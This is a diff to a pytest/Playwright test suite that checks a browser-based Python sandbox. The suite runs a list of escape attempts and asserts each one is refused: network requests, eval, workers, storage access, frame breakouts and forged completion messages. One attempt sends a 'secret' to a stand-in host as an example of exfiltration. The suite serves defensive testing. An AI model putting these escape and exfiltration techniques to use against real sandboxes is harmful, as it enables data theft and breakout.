@@ -10,15 +10,22 @@ from playwright.sync_api import Browser, BrowserContext, Page, expect
 
 from snippets import BOOT, Snippet, open_python_page, run
 
-# Each attempt runs in a worker of the attacker's own, made from a blob: free of the runner's wrappers, with JavaScript's whole grammar.
-# An attempt that resolves was allowed.
+pytestmark = pytest.mark.xdist_group("python")  # one process, one warm page for most of them
+
+# Each attempt runs in a worker of the attacker's own, made from a blob: free of the runner's wrappers, in all of JavaScript.
+# An attempt that resolves was allowed. `heard` tells which of an object's events came first, its good one or its error.
+HEARD = """const heard = (source, good) => new Promise((ok, no) => {
+  source["on" + good] = ok;
+  source.onerror = no;
+  setTimeout(no, 500);
+});"""
 ATTEMPTS = {
     "fetch": "fetch(SITE)",
     "fetch without reading": "fetch('https://example.com/?secret', {mode: 'no-cors'})",
     "fetch that outlives the page": "fetch(SITE, {method: 'POST', keepalive: true, mode: 'no-cors'})",
-    "XMLHttpRequest": "new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', SITE); x.onload = ok; x.onerror = no; x.send(); })",
-    "WebSocket": "new Promise((ok, no) => { const s = new WebSocket(SITE.replace('http', 'ws')); s.onopen = ok; s.onerror = no; })",
-    "EventSource": "new Promise((ok, no) => { const s = new EventSource(SITE); s.onopen = ok; s.onerror = no; })",
+    "XMLHttpRequest": "(() => { const x = new XMLHttpRequest(); x.open('GET', SITE); x.send(); return heard(x, 'load'); })()",
+    "WebSocket": "heard(new WebSocket(SITE.replace('http', 'ws')), 'open')",
+    "EventSource": "heard(new EventSource(SITE), 'open')",
     "WebTransport": "new WebTransport('https://127.0.0.1:1/').ready",
     "import()": "import(SITE + 'sw.js')",
     "import() of data": "import('data:text/javascript,export default 1')",
@@ -27,8 +34,8 @@ ATTEMPTS = {
     "eval": "(async () => (0, eval)('1'))()",
     "new Function": "(async () => new Function('return 1')())()",
     "setTimeout with text": "new Promise((ok, no) => { self.ok = ok; setTimeout('self.ok()', 0); setTimeout(no, 200); })",
-    "a worker from the site": "new Promise((ok, no) => { const w = new Worker(SITE + 'sw.js'); w.onmessage = ok; w.onerror = no; setTimeout(no, 500); })",
-    "IndexedDB": "new Promise((ok, no) => { const q = indexedDB.open('p'); q.onsuccess = ok; q.onerror = no; })",
+    "a worker from the site": "heard(new Worker(SITE + 'sw.js'), 'message')",
+    "IndexedDB": "heard(indexedDB.open('p'), 'success')",
     "caches": "caches.open('stolen')",
     "caches.match": "caches.match(SITE)",
     "localStorage": "(async () => localStorage.length)()",
@@ -52,6 +59,7 @@ import asyncio
 
 script = '''
 const SITE = %(site)s;
+%(heard)s
 const attempts = {%(attempts)s};
 (async () => {
   const results = {};
@@ -74,7 +82,7 @@ asyncio.run(main())
 
 def attack(site_url: str) -> str:
     attempts = ", ".join(f"{json.dumps(name)}: () => {attempt}" for name, attempt in ATTEMPTS.items())
-    return ATTACK % {"site": json.dumps(site_url), "attempts": attempts}
+    return ATTACK % {"site": json.dumps(site_url), "heard": HEARD, "attempts": attempts}
 
 
 @pytest.fixture(scope="module")
@@ -89,21 +97,24 @@ def warm(browser: Browser, site_url: str) -> Iterator[Page]:
 
 def everything_cached(page: Page) -> dict[str, str]:
     """Every entry of every cache, and what it holds."""
-    return page.evaluate(
+    found: dict[str, str] = page.evaluate(
         """async () => {
              const found = {};
              for (const name of await caches.keys()) {
                const cache = await caches.open(name);
-               for (const request of await cache.keys()) found[name + " " + request.url] = await (await cache.match(request)).text();
+               for (const request of await cache.keys()) {
+                 found[name + " " + request.url] = await (await cache.match(request)).text();
+               }
              }
              return found;
            }"""
     )
+    return found
 
 
 def test_every_way_out_is_refused_and_the_cached_home_page_is_what_it_was(context: BrowserContext, site_url: str) -> None:
-    asked: list[str] = []
-    context.on("request", lambda request: asked.append(request.url))
+    answered: list[str] = []
+    context.on("response", lambda response: answered.append(response.url) if response.request.service_worker is None else None)
     page = context.new_page()
     open_python_page(page, site_url)
     page.evaluate(
@@ -112,12 +123,12 @@ def test_every_way_out_is_refused_and_the_cached_home_page_is_what_it_was(contex
     before = everything_cached(page)
     assert any(key.endswith(site_url) for key in before)
     run(page, "print(1)")
-    asked.clear()
+    answered.clear()
 
     results = json.loads(run(page, attack(site_url)))
     assert results == dict.fromkeys(ATTEMPTS, "refused")
 
-    assert [url for url in asked if not url.startswith("blob:")] == []
+    assert [url for url in answered if not url.startswith("blob:")] == []
     after = everything_cached(page)
     assert {key: after.get(key) for key in before} == before
     assert not [key for key in after if "stolen" in key]
@@ -159,15 +170,22 @@ def test_the_frame_itself_can_reach_nothing_either(warm: Page, site_url: str) ->
     frame = next(frame for frame in warm.frames if frame is not warm.main_frame)
     tried = frame.evaluate(
         """async (site) => {
+             const framed = () => new Promise((ok, no) => {
+               const inner = document.createElement("iframe");
+               inner.src = site;
+               inner.onload = () => (inner.contentDocument ? ok() : no());
+               document.documentElement.append(inner);
+               setTimeout(no, 500);
+             });
+             const opened = () => { if (!open(site)) throw new Error("no window"); };
              const tries = {
-               fetch: () => fetch(site), storage: () => localStorage.length, caches: () => caches.keys(), parent: () => parent.document.title,
-               top: () => { top.location = "https://example.com/"; }, open: () => { if (!open(site)) throw new Error("no window"); },
-               frames: () => { const f = document.createElement("iframe"); f.src = site; document.documentElement.append(f);
-                 return new Promise((ok, no) => { f.onload = () => { try { f.contentDocument.title; ok(); } catch (e) { no(e); } };
-                   setTimeout(() => no(new Error("never loaded")), 500); }); },
+               fetch: () => fetch(site), storage: () => localStorage.length, caches: () => caches.keys(), frames: framed,
+               parent: () => parent.document.title, top: () => { top.location = "https://example.com/"; }, open: opened,
              };
              const results = {};
-             for (const name in tries) try { await tries[name](); results[name] = "ALLOWED"; } catch { results[name] = "refused"; }
+             for (const name in tries) {
+               try { await tries[name](); results[name] = "ALLOWED"; } catch { results[name] = "refused"; }
+             }
              return [self.origin, results];
            }""",
         site_url,
@@ -216,33 +234,45 @@ while True:
     snippet.says("Stopped: a program may run for 10 seconds here.")
 
 
-def test_a_forged_end_ends_the_program(warm: Page) -> None:
+def test_a_program_cannot_forge_its_end(warm: Page) -> None:
+    """It would go on unseen. What ends a run carries a secret, and the program cannot learn it from what is sent meanwhile."""
     code = """
 import js, json
-for run in range(30): js.postMessage(json.dumps({"type": "done", "run": run, "ok": True, "reuse": True}))
+from pyodide.ffi import create_proxy
+seen = []
+def spy(this, *_):
+    seen.append(str(this.run))
+    return this
+js.Object.prototype.toJSON = create_proxy(spy, capture_this=True)
+print("first")
+print("second")
+for run in seen + [1, "1", "", None]: js.postMessage(json.dumps({"type": "done", "run": run, "ok": True, "reuse": True}))
+print(seen)
 while True: pass
 """
-    Snippet(warm, code, name="liar").run()
-    snippet = Snippet(warm, "print(1 + 1)")
-    snippet.press("Run")
-    snippet.says("Starting")  # the liar still holds the worker
-    expect(snippet.output).to_have_text("2\n", timeout=BOOT)
+    snippet = Snippet(warm, code)
+    assert snippet.run() == "first\nsecond\n[]\n"
+    snippet.says("Stopped: a program may run for 10 seconds here.")
 
 
 @pytest.mark.parametrize("flood", ["js.postMessage('{}')", "js.postMessage('x' * 10**7)", "js.postMessage(js.Object.new())"])
 def test_a_flood_is_stopped_while_the_page_stays_usable(warm: Page, flood: str) -> None:
-    snippet = Snippet(warm, f"import js\nwhile True: {flood}")
+    run(warm, "print(1)")
+    snippet = Snippet(warm, f"import js\nprint('flood')\nwhile True: {flood}")
     snippet.press("Run")
-    expect(snippet.button("Stop")).to_be_hidden(timeout=12_000)
+    expect(snippet.output).to_have_text("flood\n", timeout=BOOT)
+    expect(snippet.button("Stop")).to_be_hidden(timeout=5000)
     snippet.says("The program sent more than a page can show, and was stopped.")
     assert run(warm, "print(1 + 1)") == "2\n"
 
 
 def test_what_a_program_changes_in_javascript_does_not_meet_the_next(warm: Page) -> None:
-    run(
-        warm,
-        "import js\njs.JSON.stringify = lambda *_: '{}'\njs.Object.prototype.type = 'done'\njs.setInterval(js.postMessage, 1, 'x')",
+    changes = (
+        "js.JSON.stringify = lambda *_: '{}'",
+        "js.Object.prototype.type = 'done'",
+        "js.setInterval(js.postMessage, 1, 'x')",
     )
+    run(warm, "\n".join(("import js", *changes)))
     snippet = Snippet(warm, "import json\nprint(json.dumps({'a': 1}))")
     assert snippet.run() == '{"a": 1}\n'
 
